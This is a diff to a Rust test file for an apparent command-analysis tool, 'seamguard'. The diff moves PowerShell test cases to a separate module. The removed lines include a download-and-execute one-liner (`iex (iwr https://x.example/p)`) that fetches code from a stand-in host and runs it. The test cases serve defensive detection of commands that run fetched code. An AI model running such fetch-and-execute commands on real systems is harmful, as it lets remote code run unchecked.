@@ -346,18 +346,7 @@ fn unparsed_code_that_runs_what_it_fetches() {
                 "unsure PHP code that opens a network connection and evaluates text as code (seamguard does not parse PHP)",
             ],
         ),
-        (
-            "pwsh -c 'iex (iwr https://x.example/p)'",
-            &[
-                "run pwsh -c iex (iwr https://x.example/p)",
-                "unsure PowerShell code that opens a network connection and evaluates text as code (seamguard does not parse PowerShell)",
-            ],
-        ),
-        // Fetching alone, or evaluating alone, is neither.
-        (
-            "pwsh -c 'Invoke-WebRequest https://x.example/a.zip -OutFile a.zip'",
-            &["run pwsh -c Invoke-WebRequest https://x.example/a.zip -OutFile a.zip"],
-        ),
+        // Evaluating alone is not (PowerShell is read by its own lens: `inline::powershell`).
         ("ruby -e 'eval(\"1+1\")'", &["run ruby -e eval(\"1+1\")"]),
         // awk running each line it reads: a download piped into it runs.
         (
